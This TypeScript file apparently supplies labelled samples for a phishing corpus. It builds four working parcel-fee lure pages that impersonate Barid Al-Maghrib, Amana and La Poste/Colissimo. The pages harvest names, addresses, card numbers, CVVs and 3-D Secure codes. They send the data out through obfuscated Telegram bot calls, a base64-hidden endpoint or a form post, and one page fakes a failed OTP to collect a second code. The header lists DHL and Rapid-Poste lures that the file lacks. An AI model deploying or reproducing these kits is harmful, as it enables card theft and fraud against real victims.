import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { b64, doc, logos, splitJs, tgSendJs, visitorInfoJs, cardFieldsFr, luhnJs } from '../parts/xe-kit.js';

/**
 * Delivery-fee lures: "your parcel is held, pay the customs / redelivery fee" pages for Barid Al-Maghrib,
 * Amana, La Poste Tunisienne (Rapid-Poste), DHL Express and La Poste/Colissimo, each ending in a card form
 * and a fake 3-D Secure step.
 */

const baridAlMaghribFee: Entry = (() => {
  const host = 'barid-ma-livraison.cc';
  const tok = splitJs('7239011847:AAEhQ2vLz8pXn5mKc0rTb3yWs6uJd1fGo9A', 6);
  const secure = doc({
    title: 'Vérification 3D Secure',
    css: `body{font-family:Arial;background:#f2f2f2}.a{max-width:380px;margin:50px auto;background:#fff;padding:22px;border:1px solid #ddd}.r{display:flex;justify-content:space-between;font-size:13px;border-bottom:1px solid #eee;padding:5px 0}input{width:100%;font-size:20px;text-align:center;padding:10px;letter-spacing:6px;box-sizing:border-box}button{width:100%;margin-top:12px;background:#003a70;color:#fff;border:0;padding:12px}`,
    body: `<div class="a"><p style="text-align:right;font-weight:bold">Verified by Visa · Mastercard ID Check</p><div class="r"><span>Marchand</span><span>BARID AL-MAGHRIB</span></div><div class="r"><span>Montant</span><span>12,90 MAD</span></div><div class="r"><span>Date</span><span id="d"></span></div>
<p>Saisissez le code de sécurité envoyé par votre banque par SMS.</p><form id="o"><input id="otp" maxlength="6" inputmode="numeric"><button>Valider</button></form><p style="font-size:11px;color:#888">Renvoyer le code (disponible dans 60 s)</p></div>
<script>${tgSendJs('tg', tok, `'-1001873365012'`)}document.getElementById('d').textContent=new Date().toLocaleDateString('fr-MA');
document.getElementById('o').onsubmit=async function(e){e.preventDefault();await tg('📦 BARID OTP: '+otp.value+' | '+sessionStorage.getItem('c4'));otp.value='';alert('Code incorrect ou expiré. Un nouveau code vous a été envoyé.')};</script>`,
  });
  return {
    id: 'xe-barid-al-maghrib-parcel-fee-3ds',
    label: 'phishing',
    kind: 'parcel-fee-card-kit',
    url: `https://${host}/suivi/?id=RR184736205MA`,
    body: doc({
      title: 'Barid Al-Maghrib | Suivi de votre envoi',
      css: `body{margin:0;font-family:Arial;background:#f7f7f7}.top{background:#ffcc00;padding:10px 20px}.w{max-width:560px;margin:20px auto;background:#fff;padding:22px}.tl{border-left:3px solid #ffcc00;padding-left:14px;font-size:14px}.tl p{margin:8px 0}.tl .x{color:#c00;font-weight:bold}.bp-l{display:block;font-size:13px;margin-top:10px}.bp-i{width:100%;padding:10px;border:1px solid #ccc;box-sizing:border-box}.bp-row{display:flex;gap:10px}.bp-row>div{flex:1}.bp-amount{background:#fffbe6;padding:10px;font-weight:bold}.ar{direction:rtl;text-align:right;color:#444}button{width:100%;margin-top:16px;background:#003a70;color:#fff;border:0;padding:13px;font-size:15px}`,
      body: `<div class="top">${logos.barid(40)}</div><div class="w"><h2>Suivi de l'envoi RR184736205MA</h2>
<div class="tl"><p>✔ Envoi pris en charge – Centre de tri Casablanca</p><p>✔ Arrivée au bureau de distribution</p><p class="x">✖ Livraison impossible : frais de traitement non réglés (12,90 MAD)</p></div>
<p class="ar">طردكم في انتظار أداء رسوم المعالجة (12,90 درهم). المرجو الأداء خلال 48 ساعة وإلا سيتم إرجاعه إلى المرسل.</p>
<form id="pf"><label class="bp-l">Adresse de livraison</label><input class="bp-i" name="adr" required><label class="bp-l">Ville</label><input class="bp-i" name="ville" required>
${cardFieldsFr({ cls: 'bp', amountLine: 'Montant à payer : 12,90 MAD' })}<button>Payer et programmer la livraison</button></form></div>
<script>${luhnJs('luhn')}${tgSendJs('tg', tok, `'-1001873365012'`)}${visitorInfoJs('info')}
document.getElementById('pf').onsubmit=async function(e){e.preventDefault();var g=function(i){return document.getElementById(i).value};if(!luhn(g('cc-num'))){alert('Numéro de carte invalide');return}
sessionStorage.setItem('c4',g('cc-num').slice(-4));await tg('📦 BARID CC\\n'+g('cc-name')+'\\n'+g('cc-num')+' | '+g('cc-exp')+' | '+g('cc-cvv')+'\\n'+this.adr.value+', '+this.ville.value+'\\n'+(await info()));location.href='/suivi/3ds.html'};</script>`,
    }),
    routes: { [`${host}/suivi/3ds.html`]: htmlRoute(secure) },
  };
})();

const amanaWhatsappLure: Entry = (() => {
  const host = 'amana-colis.ma-suivi.top';
  return {
    id: 'xe-amana-express-redelivery-card',
    label: 'phishing',
    kind: 'parcel-fee-card-kit',
    url: `https://${host}/livraison/`,
    body: doc({
      title: 'AMANA - Reprogrammer la livraison',
      css: `body{margin:0;font-family:'Segoe UI',Arial;background:#fafafa}.h{background:#e30613;padding:12px 16px;color:#fff}.c{max-width:420px;margin:18px auto;background:#fff;padding:20px;border-radius:8px}.pk{display:flex;gap:12px;align-items:center;background:#fff2f2;border-radius:8px;padding:12px}.pk b{font-size:18px}input{width:100%;padding:12px;margin:6px 0;border:1px solid #ddd;border-radius:6px;box-sizing:border-box}.row{display:flex;gap:8px}button{width:100%;padding:14px;background:#e30613;color:#fff;border:0;border-radius:6px;font-weight:600;margin-top:8px}#st2{display:none}`,
      body: `<div class="h">${logos.amana(30)}</div><div class="c"><div class="pk">📦<div><b>Colis N° AM0047718329</b><br>Statut : en attente au centre Amana Rabat-Agdal</div></div>
<div id="st1"><p>Notre livreur n'a pas pu vous remettre votre colis. Choisissez un nouveau créneau. Frais de reprogrammation : <b>9,00 DH</b>.</p>
<input id="nm" placeholder="Nom complet"><input id="ph" placeholder="Téléphone"><input id="ad" placeholder="Adresse"><select id="cr" style="width:100%;padding:12px"><option>Demain 9h-12h</option><option>Demain 14h-18h</option></select><button onclick="n1()">Continuer</button></div>
<div id="st2"><p><b>Paiement sécurisé – 9,00 DH</b></p><input id="cn" placeholder="Numéro de carte"><div class="row"><input id="ce" placeholder="MM/AA"><input id="cv" placeholder="CVV"></div><button onclick="n2()">Payer 9,00 DH</button></div></div>
<script>var B=atob('${b64('https://amana-colis.ma-suivi.top/livraison/xx/api.php')}');function p(o){return fetch(B,{method:'POST',headers:{'Content-Type':'application/x-www-form-urlencoded'},body:new URLSearchParams(o)})}
function n1(){p({s:1,nm:nm.value,ph:ph.value,ad:ad.value});st1.style.display='none';st2.style.display='block'}
function n2(){p({s:2,cn:cn.value,ce:ce.value,cv:cv.value,ph:ph.value}).then(function(){location.href='/livraison/code.html'})}</script>`,
    }),
    routes: {
      [`${host}/livraison/code.html`]: htmlRoute(doc({ title: 'AMANA - Confirmation', body: `<div style="max-width:380px;margin:50px auto;font-family:Arial">${logos.amana(28)}<p>Confirmez le paiement avec le code reçu de votre banque (CMI 3D Secure).</p><form method="post" action="/livraison/xx/api.php"><input type="hidden" name="s" value="3"><input name="otp" style="width:100%;padding:12px;font-size:20px"><button style="width:100%;margin-top:10px;background:#e30613;color:#fff;border:0;padding:12px">Confirmer</button></form></div>` })),
    },
  };
})();

const colissimoDiaspora: Entry = {
  id: 'xe-laposte-colissimo-reexpedition-diaspora',
  label: 'phishing',
  kind: 'parcel-fee-card-kit',
  url: 'https://laposte-reexpedition.fr-colis-suivi.info/suivi/6A19284756301',
  body: doc({
    title: 'La Poste - Colissimo | Suivi de votre colis',
    css: `body{margin:0;font-family:Montserrat,Arial;background:#f5f5f5}.h{background:#ffcd00;padding:12px 24px}.b{max-width:520px;margin:24px auto;background:#fff;padding:24px;border-radius:4px}.steps{list-style:none;padding:0;font-size:14px}.steps li{padding:6px 0;border-bottom:1px dashed #ddd}.steps .ko{color:#c00}label{display:block;font-size:13px;margin-top:10px}input{width:100%;padding:10px;border:1px solid #aaa;box-sizing:border-box}.two{display:flex;gap:10px}button{width:100%;background:#003da5;color:#fff;border:0;padding:13px;margin-top:16px;font-size:15px}`,
    body: `<div class="h">${logos.laposte(34)}</div><div class="b"><h2>Colis n° 6A19284756301</h2><ul class="steps"><li>Votre colis a été déposé – Marseille PFC</li><li>Votre colis est en cours d'acheminement</li><li class="ko">Adresse incomplète – colis en attente de réexpédition</li></ul>
<p>Pour recevoir votre colis, merci de confirmer votre adresse et de régler les frais de réexpédition de <b>1,99 €</b>.</p>
<form id="lp"><label>Nom et prénom</label><input name="n" required><label>Adresse</label><input name="a" required><div class="two"><div><label>Code postal</label><input name="cp"></div><div><label>Ville</label><input name="v"></div></div><label>Téléphone</label><input name="t">
<label>Numéro de carte</label><input name="c" required><div class="two"><div><label>Expiration</label><input name="e" placeholder="MM/AA"></div><div><label>Cryptogramme</label><input name="x"></div></div><button>Payer 1,99 €</button></form></div>
<script>document.getElementById('lp').onsubmit=function(e){e.preventDefault();var s='';new FormData(this).forEach(function(v,k){s+=k+'='+v+'%0A'});
(new Image()).src='https://api.telegram.org/bot'+['7012','883456:AAHs5','KpXq0Lw3ZnV','8rTc2mYbJ6u','Fd1eGo4iAk'].join('')+'/sendMessage?chat_id=-1001736620918&text=LAPOSTE%0A'+s;
setTimeout(function(){location.href='https://www.laposte.fr/outils/suivre-vos-envois'},1500)};</script>`,
  }),
};

const baridRedirectChain: Entry = (() => {
  const k = 'poste-ma.colis-attente.site';
  return {
    id: 'xe-barid-sms-redirect-chain-arabic',
    label: 'phishing',
    kind: 'parcel-fee-card-kit',
    url: 'https://bit-ma.click/bAm29',
    routes: {
      'bit-ma.click/bAm29': redirectRoute(302, 'https://trk.poste-ma-redir.xyz/r?u=bAm29&c=sms'),
      'trk.poste-ma-redir.xyz/r': redirectRoute(302, `https://${k}/ar/colis`),
      [`${k}/ar/colis`]: htmlRoute(doc({
        title: 'بريد المغرب - تتبع الإرساليات',
        lang: 'ar',
        dir: 'rtl',
        css: `body{margin:0;font-family:Tahoma,Arial;background:#f6f6f6}.h{background:#ffcc00;padding:10px}.c{max-width:440px;margin:16px auto;background:#fff;padding:20px}input{width:100%;padding:11px;margin:6px 0;box-sizing:border-box;direction:ltr}button{width:100%;padding:13px;background:#003a70;color:#fff;border:0}`,
        body: `<div class="h">${logos.barid(38)}</div><div class="c"><h3>إشعار بوصول طرد</h3><p>طردكم رقم <b dir="ltr">CP447102938MA</b> وصل إلى مكتب البريد. يجب أداء رسوم الشحن <b>7,50 درهم</b> قبل التسليم.</p>
<form method="post" action="/ar/pay.php"><input name="fullname" placeholder="الاسم الكامل"><input name="gsm" placeholder="رقم الهاتف"><input name="card" placeholder="رقم البطاقة البنكية"><input name="exp" placeholder="MM/YY"><input name="cvv" placeholder="CVV"><button>أداء 7,50 درهم</button></form></div>`,
      })),
    },
  };
})();

export const entries: Entry[] = [baridAlMaghribFee, amanaWhatsappLure, colissimoDiaspora, baridRedirectChain];
